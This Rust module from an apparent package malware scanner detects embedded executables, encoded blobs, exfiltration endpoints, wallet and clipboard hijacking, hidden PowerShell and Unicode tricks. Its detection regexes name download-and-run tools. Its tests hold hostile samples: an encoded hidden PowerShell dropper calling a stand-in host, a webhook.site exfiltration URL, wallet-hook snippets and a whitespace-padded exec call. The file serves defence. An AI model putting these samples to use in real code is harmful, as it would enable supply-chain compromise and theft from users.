//! Language-neutral checks on a file's bytes and text: embedded executables, entropy,
//! long and padded lines, blobs, endpoints, wallet and clipboard patterns, Unicode
//! tricks. They are lexical on purpose: they must work on any file, minified or broken.

use crate::ids;
use crate::text::{entropy, regexes, round2, Lines};
use crate::Signal;

regexes! {
    RE_URL = r#"(?i)\b(?:https?|wss?|ftp)://[^\s'"`<>()\\{}|^]+"#;
    RE_IPV4 = r"(?:^|[^0-9.])((?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3})(?:$|[^0-9.]|\.[^0-9])";
    RE_ETH_ADDR = r"\b0x[a-fA-F0-9]{40}\b";
    RE_BECH32_ADDR = r"\bbc1[ac-hj-np-z02-9]{25,59}\b";
    RE_WALLET_ETH = r"0x\\?\[(?:a-fA-F0-9|0-9a-fA-F|a-f0-9|0-9a-f|A-Fa-f0-9|0-9A-Fa-f|a-fA-F\\d|\\da-fA-F)\\?\]\{40\}";
    RE_WALLET_BASE58 = r"HJ-NP|1-9A-HJ|a-km-z";
    RE_WALLET_BTC = r"bc1\)?\??\[|\(bc1[qp]?\||\[13\]\[";
    RE_WALLET_TRX = r"T\[[1-9A-Za-z-]{6,}\]\{3[34]\}";
    RE_WALLET_LTC = r"\[LM3?\]\[|ltc1";
    RE_WALLET_HOOK = r"window\.ethereum|ethereum\.request\s*\(|eth_sendTransaction|window\.solana|solana\.signTransaction|XMLHttpRequest\.prototype\.(?:open|send)\s*=|(?:window|globalThis|self|global)\.fetch\s*=[^=]|(?:^|[;{}\s])fetch\s*=\s*(?:async\s+)?function";
    RE_CLIPBOARD = r"navigator\.clipboard|clipboardData|execCommand\(\s*['\x22](?:copy|paste)|\bpyperclip\b|\bclipboardy\b|\bpbcopy\b|\bpbpaste\b|\bxclip\b|\bxsel\b|Get-Clipboard|Set-Clipboard|win32clipboard|clipboard_get\(|clipboard_append\(|OpenClipboard|GetClipboardData|SetClipboardData";
    RE_HEX_ESCAPE = r"\\x[0-9a-fA-F]{2}";
    RE_PS_DOWNLOAD = r"(?i)\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|downloadfile|downloadstring|downloaddata|net\.webclient|start-bitstransfer|curl(?:\.exe)?|wget|bitsadmin)\b";
    RE_PS_RUN = r"(?i)\b(?:invoke-expression|iex|start-process|saps|invoke-item)\b|&\s*['\x22]?[^;|]*\.(?:exe|ps1|bat|cmd|vbs)\b|\.(?:exe|scr)['\x22]?\s*(?:;|$)";
    RE_ENCODED_SHELL = r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,300}?\s[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedcommand)\s+['\x22]?[A-Za-z0-9+/]{20,}={0,2}";
    RE_HIDDEN_SHELL = r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,300}?\s[-/](?:w|win|window|windowstyle)\s+['\x22]?hidden\b";
}

mod encoded;
mod endpoints;
mod unicode;

use encoded::*;
pub(crate) use endpoints::exfil_service;
pub use endpoints::url_host;
use endpoints::*;
pub use unicode::mixes_scripts;
use unicode::*;

/// Checks on raw bytes: executables hidden in the package.
pub fn binary_signals(rel: &str, bytes: &[u8], out: &mut Vec<Signal>) {
    if let Some(format) = executable_format(bytes) {
        let native_addon = rel.ends_with(".node");
        let detail = if native_addon {
            format!("{format} executable (native addon .node file)")
        } else {
            format!("{format} executable")
        };
        out.push(
            Signal::new(ids::EMBEDDED_EXECUTABLE, rel, None, detail).with_value(bytes.len() as f64),
        );
    }
}

/// Names the executable format `bytes` start with, if any.
pub fn executable_format(bytes: &[u8]) -> Option<&'static str> {
    if bytes.len() < 16 {
        return None;
    }
    match &bytes[..4] {
        [0x7f, b'E', b'L', b'F'] => return Some("ELF"),
        [0xfe, 0xed, 0xfa, 0xce] | [0xce, 0xfa, 0xed, 0xfe] => return Some("Mach-O"),
        [0xfe, 0xed, 0xfa, 0xcf] | [0xcf, 0xfa, 0xed, 0xfe] => return Some("Mach-O"),
        [0xca, 0xfe, 0xba, 0xbe] => {
            // Fat Mach-O shares its magic with Java class files; a fat header's arch count
            // is small, a class file's version word is >= 45.
            let n = u32::from_be_bytes([bytes[4], bytes[5], bytes[6], bytes[7]]);
            return (n > 0 && n < 30).then_some("Mach-O universal");
        }
        _ => {}
    }
    if bytes.starts_with(b"MZ") && bytes.len() >= 0x40 {
        let off = u32::from_le_bytes([bytes[0x3c], bytes[0x3d], bytes[0x3e], bytes[0x3f]]) as usize;
        if off + 4 <= bytes.len() && &bytes[off..off + 4] == b"PE\0\0" {
            return Some("PE");
        }
    }
    None
}

/// Whether a text looks minified: few, very long lines.
pub fn looks_minified(src: &str) -> bool {
    let (mut lines, mut max, mut last) = (0usize, 0usize, 0usize);
    for (i, _) in src.match_indices('\n') {
        lines += 1;
        max = max.max(i - last);
        last = i + 1;
    }
    if last < src.len() {
        lines += 1;
        max = max.max(src.len() - last);
    }
    let lines = lines.max(1);
    let avg = src.len() / lines;
    avg > 250 || (max > 3000 && lines < 50)
}

fn is_comment_line(line: &str) -> bool {
    let t = line.trim_start();
    t.starts_with("//") || t.starts_with("/*") || t.starts_with('*') || t.starts_with('#')
}

/// Text checks shared by JavaScript, Python and scripts.
pub fn text_signals(rel: &str, src: &str, out: &mut Vec<Signal>) {
    let lines = Lines::new(src);
    let minified = looks_minified(src);

    // Entropy of the whole file: ordinary source and minified bundles sit at 4.2-5.4
    // bits/byte; files that are mostly encoded payload go above 5.6.
    let h = entropy(src.as_bytes());
    if src.len() >= 1024 && h >= 5.6 {
        out.push(
            Signal::new(
                ids::HIGH_ENTROPY,
                rel,
                None,
                format!("file entropy {:.2} bits/byte", h),
            )
            .with_value(round2(h)),
        );
    }

    // Long lines only mean something in files that are otherwise hand-written.
    if !minified {
        let mut reported = 0;
        for (i, line) in src.lines().enumerate() {
            // Data tables in hand-written files (typescript's Unicode ranges) run to
            // 10k characters of digits and commas at ~3.5 bits/byte; code or payload
            // hidden on one line is richer (>= 4.2) or looks random (>= 5.5).
            if line.len() <= 1000 || reported >= 3 {
                continue;
            }
            let h = entropy(line.as_bytes());
            if h >= 5.5 || (line.len() > 5000 && h >= 4.2) {
                reported += 1;
                out.push(
                    Signal::new(
                        ids::LONG_LINE,
                        rel,
                        Some(i as u32 + 1),
                        format!(
                            "{} character line (entropy {:.2}) in a non-minified file",
                            line.len(),
                            h
                        ),
                    )
                    .with_value(line.len() as f64),
                );
            }
        }
    }
    if let Some((start, end)) = padding(src.as_bytes()) {
        out.push(
            Signal::new(
                ids::WHITESPACE_PADDING,
                rel,
                Some(lines.line_of(start)),
                "code hidden after a long run of whitespace on one line",
            )
            .with_value((end - start) as f64),
        );
    }

    blobs(rel, src, &lines, out);
    encoded_shell(rel, src, &lines, out);
    endpoints(rel, src, &lines, out);
    wallet_and_clipboard(rel, src, &lines, out);
    crate::stealer::text_signals(rel, src, &lines, out);
    unicode_tricks(rel, src, &lines, out);

    if let Some(re) = &*RE_HEX_ESCAPE {
        let n = re.find_iter(src).count();
        if n >= 100 && (n * 4) as f64 / src.len() as f64 > 0.1 {
            out.push(
                Signal::new(
                    ids::ESCAPED_STRINGS,
                    rel,
                    None,
                    format!("{n} \\xNN escapes"),
                )
                .with_value(n as f64),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine;

    #[test]
    fn regexes_compile() {
        for (name, ok) in all_regexes() {
            assert!(ok, "{name} does not compile");
        }
    }

    fn ids_of(rel: &str, src: &str) -> Vec<String> {
        let mut out = Vec::new();
        text_signals(rel, src, &mut out);
        out.into_iter().map(|s| s.signal).collect()
    }

    #[test]
    fn executable_magic() {
        let mut elf = vec![0x7f, b'E', b'L', b'F'];
        elf.resize(64, 0);
        assert_eq!(executable_format(&elf), Some("ELF"));
        let mut pe = vec![0u8; 128];
        pe[0] = b'M';
        pe[1] = b'Z';
        pe[0x3c] = 0x40;
        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
        assert_eq!(executable_format(&pe), Some("PE"));
        let mut mz_text = b"MZ is just text here, not a header at all......".to_vec();
        mz_text.resize(128, b'.');
        assert_eq!(executable_format(&mz_text), None);
        let mut java = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52];
        java.resize(32, 0);
        assert_eq!(executable_format(&java), None);
        let mut fat = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2];
        fat.resize(32, 0);
        assert_eq!(executable_format(&fat), Some("Mach-O universal"));
        assert_eq!(executable_format(b"#!/bin/sh\necho hello world\n"), None);
    }

    #[test]
    fn urls_ips_and_exfil() {
        let src = "const a = 'https://webhook.site/abc';\nconst b = \"http://45.9.148.3:8080/x\";\n// see https://commented.example/\nconst v = '10.0.0.1';\nversion 1.2.3.4 is out\n";
        let mut out = Vec::new();
        text_signals("a.js", src, &mut out);
        let exfil: Vec<_> = out
            .iter()
            .filter(|s| s.signal == ids::ENDPOINT_EXFIL_SERVICE)
            .collect();
        assert_eq!(exfil.len(), 1);
        assert_eq!(exfil[0].line, Some(1));
        let urls: Vec<_> = out
            .iter()
            .filter(|s| s.signal == ids::ENDPOINT_URL)
            .map(|s| s.detail.as_str())
            .collect();
        assert_eq!(
            urls,
            vec!["https://webhook.site/abc", "http://45.9.148.3:8080/x"]
        );
        let ips: Vec<_> = out
            .iter()
            .filter(|s| s.signal == ids::ENDPOINT_IP)
            .collect();
        assert_eq!(ips.len(), 2, "{ips:?}");
        assert_eq!(ips[0].value, Some(1.0));
        assert_eq!(ips[1].value, Some(0.0));
        assert!(!out.iter().any(|s| s.detail.contains("1.2.3.4")));
        assert_eq!(
            url_host("https://user:pw@Evil.COM:443/p"),
            Some("evil.com".into())
        );
    }

    #[test]
    fn blobs_and_decoded_executables() {
        let mut elf = vec![0x7f, b'E', b'L', b'F', 2, 1, 1];
        elf.extend((0..300u32).map(|i| (i * 7 % 251) as u8));
        let b64 = base64::engine::general_purpose::STANDARD.encode(&elf);
        let src = format!("var payload = \"{b64}\";\n");
        let mut out = Vec::new();
        text_signals("p.js", &src, &mut out);
        let blob = out
            .iter()
            .find(|s| s.signal == ids::BASE64_BLOB)
            .expect("blob");
        assert!(blob.detail.contains("decodes to ELF"), "{}", blob.detail);
        assert_eq!(blob.value, Some(b64.len() as f64));
        let hex: String = elf.iter().map(|b| format!("{b:02x}")).collect();
        let ids = ids_of("h.py", &format!("x = '{hex}'\n"));
        assert!(ids.contains(&ids::HEX_BLOB.to_string()));
        assert!(!ids.contains(&ids::BASE64_BLOB.to_string()), "{ids:?}");
        // A long identifier-like path is not a blob.
        let path = "a/".repeat(150);
        assert!(
            !ids_of("x.js", &format!("require('{path}')")).contains(&ids::BASE64_BLOB.to_string())
        );
        let srcmap = format!("//# sourceMappingURL=data:application/json;base64,{b64}\n");
        assert!(!ids_of("m.js", &srcmap).contains(&ids::BASE64_BLOB.to_string()));
    }

    #[test]
    fn wallet_patterns() {
        let src = r#"const p = { eth: /\b0x[a-fA-F0-9]{40}\b/g, btc: /\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g, trx: /T[1-9A-HJ-NP-Za-km-z]{33}/g };
if (window.ethereum) { window.ethereum.request({ method: 'eth_sendTransaction' }); }
XMLHttpRequest.prototype.open = function () {};
navigator.clipboard.writeText(x);"#;
        let ids = ids_of("w.js", src);
        for id in [ids::WALLET_REGEX, ids::WALLET_HOOK, ids::CLIPBOARD_ACCESS] {
            assert!(ids.contains(&id.to_string()), "{id} missing in {ids:?}");
        }
        let mut out = Vec::new();
        text_signals("w.js", src, &mut out);
        let w = out
            .iter()
            .find(|s| s.signal == ids::WALLET_REGEX)
            .expect("wallet");
        assert!(w.value.unwrap_or(0.0) >= 3.0, "{w:?}");
        let benign = "const s = fetch(url).then(r => r.json()); const copy = arr.slice();";
        let ids = ids_of("b.js", benign);
        assert!(ids.is_empty(), "{ids:?}");
        assert!(ids_of(
            "a.js",
            "const to = '0x52908400098527886E0F7030069857D2E4169EE7';"
        )
        .contains(&ids::WALLET_ADDRESS.to_string()));
    }

    #[test]
    fn unicode_tricks_found() {
        let src = "const isAdmin = false;\nif (isAdmin\u{202E} \u{2066}// check\u{2069}) {}\n";
        let mut out = Vec::new();
        text_signals("b.js", src, &mut out);
        let b = out
            .iter()
            .find(|s| s.signal == ids::BIDI_CONTROL)
            .expect("bidi");
        assert_eq!(b.line, Some(2));
        assert_eq!(b.value, Some(3.0));
        // Cyrillic 'а' (U+0430) inside a Latin identifier.
        let ids = ids_of("h.js", "const p\u{0430}ssword = 1;\n");
        assert!(ids.contains(&ids::HOMOGLYPH_IDENTIFIER.to_string()));
        // Pure Russian text and emoji are fine.
        let ids = ids_of("r.js", "const msg = 'Привет мир 👍\u{FE0F}';\n");
        assert!(ids.is_empty(), "{ids:?}");
        assert!(
            ids_of("z.js", "let a\u{200B}b = 1;").contains(&ids::INVISIBLE_CHARACTER.to_string())
        );
    }

    #[test]
    fn long_lines_only_outside_minified_files() {
        let mut src = String::new();
        for i in 0..100 {
            src.push_str(&format!("const v{i} = {i};\n"));
        }
        let table = format!("const t = [{}];\n", "1, ".repeat(500));
        assert!(!ids_of("a.js", &format!("{src}{table}")).contains(&ids::LONG_LINE.to_string()));
        let digits = format!("const r = [{}];\n", "1, 22, 333, ".repeat(1000));
        assert!(!ids_of("a.js", &format!("{src}{digits}")).contains(&ids::LONG_LINE.to_string()));
        let hidden: String = (0..300)
            .map(|i| {
                format!(
                    "q{i}.push(String.fromCharCode({}),Zt[{}]);",
                    i * 7 % 256,
                    i * 13 % 97
                )
            })
            .collect();
        src.push_str(&hidden);
        src.push('\n');
        assert!(ids_of("a.js", &src).contains(&ids::LONG_LINE.to_string()));
        let minified = format!("!function(e){{{}}}();", "var a=e.b,c=d(a);".repeat(400));
        assert!(!ids_of("m.js", &minified).contains(&ids::LONG_LINE.to_string()));
        let padded = format!(
            "module.exports = 1;{}require('child_process').exec('x')\n",
            " ".repeat(300)
        );
        assert!(ids_of("p.js", &padded).contains(&ids::WHITESPACE_PADDING.to_string()));
    }

    #[test]
    fn encoded_powershell_that_downloads_and_runs_is_a_dropper() {
        let src = "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAcwA6AC8ALwBkAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBzAC8AeAAvAFUAcABkAGEAdABlAC4AZQB4AGUAPwBkAGwAPQAwACIAIAAtAE8AdQB0AEYAaQBsAGUAIAAiAH4ALwBXAGkAbgBkAG8AdwBzAEMAYQBjAGgAZQAuAGUAeABlACIAOwAgAEkAbgB2AG8AawBlAC0ARQB4AHAAcgBlAHMAcwBpAG8AbgAgACIAfgAvAFcAaQBuAGQAbwB3AHMAQwBhAGMAaABlAC4AZQB4AGUAIgA=', shell=False)\n";
        let mut out = Vec::new();
        text_signals("setup.py", src, &mut out);
        let s = out
            .iter()
            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
            .expect("signal");
        assert_eq!(s.value, Some(3.0), "{}", s.detail);
        assert!(
            s.detail.contains("decoded: powershell Invoke-WebRequest"),
            "{}",
            s.detail
        );
        // Hidden and encoded, but it only prints: no dropper.
        let src = "os.system('powershell -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAGYAcgBvAG0AIABhACAAYgB1AGkAbABkACAAcwB0AGUAcAAiAA==')\n";
        let mut out = Vec::new();
        text_signals("build.py", src, &mut out);
        let s = out
            .iter()
            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
            .expect("signal");
        assert_eq!(s.value, Some(2.0), "{}", s.detail);
        assert!(s.detail.contains("hello from a build step"), "{}", s.detail);
    }

    #[test]
    fn encoded_and_hidden_powershell() {
        let src = "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8Aaw==', shell=False)\n";
        let mut out = Vec::new();
        text_signals("setup.py", src, &mut out);
        let s = out
            .iter()
            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
            .expect("signal");
        assert_eq!(s.value, Some(2.0));
        assert_eq!(s.line, Some(1));
        let ids = ids_of(
            "a.js",
            "spawn('powershell', ['-NoProfile', '-Command', 'Get-Clipboard'])\n",
        );
        assert!(
            !ids.contains(&ids::ENCODED_SHELL_COMMAND.to_string()),
            "{ids:?}"
        );
    }

    #[test]
    fn bidi_in_long_data_lines_is_data() {
        let table = format!("const t = '{}\u{202E}';\n", "ab,".repeat(400));
        let ids = ids_of("t.js", &table);
        assert!(!ids.contains(&ids::BIDI_CONTROL.to_string()), "{ids:?}");
    }

    #[test]
    fn runs_padding_and_base64_spans() {
        let b64 = "QUJD".repeat(60);
        let src = format!("x = '{b64}==';\nid = '{}';\n", "a".repeat(250));
        let r = base64_runs(&src, &blob_spans(&src));
        assert_eq!(r.len(), 2);
        assert_eq!(r[0].as_str(), format!("{b64}=="));
        assert_eq!(r[0].start(), 5);
        assert_eq!(runs("ab", |b| b == b'a', 1, false).len(), 1);
        let pad = format!("ok();{}evil();\n", " ".repeat(200));
        assert_eq!(padding(pad.as_bytes()), Some((4, 206)));
        assert_eq!(
            padding(format!("ok();{}\n", " ".repeat(200)).as_bytes()),
            None
        );
    }
}
